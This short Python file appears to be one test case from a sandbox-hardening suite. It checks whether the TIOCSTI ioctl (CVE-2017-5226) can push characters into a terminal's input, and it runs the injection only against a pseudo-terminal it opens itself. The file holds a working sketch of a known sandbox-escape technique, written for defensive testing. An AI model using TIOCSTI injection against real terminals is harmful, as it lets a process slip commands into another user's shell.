# technique: type into a terminal by TIOCSTI (CVE-2017-5226)
# family: C2
# severity: H
# layers: seccomp, session, mount_namespace
# profile: python-full
import fcntl
import os

terminal = 0
try:
    master, terminal = os.openpty()  # a terminal of its own, for a control
    os.setsid()
    fcntl.ioctl(terminal, 0x540E, 0)  # TIOCSCTTY
except OSError:
    terminal = 0
r, e = call("ioctl", terminal, 0x5412, b"x")
if not e:
    call("ioctl", terminal, 0x5412, b"\n")
    won("the terminal read %s" % os.read(terminal, 10).decode().strip())
else:
    held("ioctl: " + e)
